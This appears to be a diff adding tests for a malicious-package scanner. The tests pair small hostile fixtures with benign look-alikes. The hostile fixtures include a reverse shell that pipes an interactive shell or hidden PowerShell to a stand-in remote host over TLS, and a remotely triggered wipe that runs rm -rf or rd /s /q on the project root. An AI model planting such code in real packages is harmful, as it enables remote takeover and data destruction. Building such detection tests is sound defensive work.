@@ -1,0 +1,64 @@
+/**
+ * Shapes from 60 cases a second writer made blind (from public reports, without reading the
+ * engine): 5 of 48 attacks and 2 of 12 look-alikes were read wrongly at first. Each shape is
+ * rewritten here small, with a look-alike that must stay quiet.
+ */
+import { analyzeSource, threatsOf } from './helpers';
+
+const load = (files: Record<string, string>) =>
+  analyzeSource({
+    'package.json': JSON.stringify({ name: 'sheet-sync', version: '1.0.0', main: 'index.js' }),
+    ...files,
+  });
+const rules = (files: Record<string, string>) => load(files).evidence.map((f) => f.rule);
+
+describe('a shell named by the environment, wired to a socket', () => {
+  it('process.env.SHELL || /bin/sh with -i, and PowerShell with -WindowStyle Hidden, in a class', () => {
+    expect(
+      rules({
+        'index.js': `const tls = require('tls'), cp = require('child_process');
+class Sync {
+  shell() { return process.platform === 'win32' ? cp.spawn('powershell.exe', ['-NoLogo', '-WindowStyle', 'Hidden']) : cp.spawn(process.env.SHELL || '/bin/sh', ['-i']); }
+  start() { const s = tls.connect({ host: 'sync.example-cdn.net', port: 443 }, () => { this.p = this.shell(); s.on('data', (d) => this.p.stdin.write(d)); this.p.stdout.on('data', (d) => s.write(d)); }); }
+}
+new Sync().start();`,
+      }),
+    ).toContain('pkg.reverse-shell');
+  });
+  it('quiet: a terminal emulator that starts the user shell for a local pseudo-terminal', () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `const cp = require('child_process');
+exports.open = (cwd) => { const p = cp.spawn(process.env.SHELL || '/bin/sh', ['-i'], { cwd }); p.stdout.pipe(process.stdout); process.stdin.pipe(p.stdin); return p; };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('a command per platform, a folder climbed until it leaves node_modules', () => {
+  const root = `const path = require('path');
+function projectRoot() { let dir = __dirname; while (dir.includes('node_modules')) dir = path.resolve(dir, '..'); return dir; }`;
+  it('a remote flag that wipes the project root, the command picked by platform', () => {
+    const found = rules({
+      'index.js': `require('./lib/beat');`,
+      'lib/beat.js': `${root}
+const { exec } = require('child_process');
+function purge(dir) { exec(process.platform === 'win32' ? \`cmd /c "rd /s /q \${dir}"\` : \`rm -rf "\${dir}"/*\`); }
+require('https').get('https://license.example-sheets.net/v1/status', (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => { if (JSON.parse(b).action === 'reset') purge(projectRoot()); }); });`,
+    });
+    expect(found).toContain('js.remote-triggered-destructive');
+  });
+  it('quiet: the same climb to find the project root and read its package.json', () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `require('./lib/find');`,
+          'lib/find.js': `${root}
+module.exports = JSON.parse(require('fs').readFileSync(projectRoot() + '/package.json', 'utf8')).name;`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
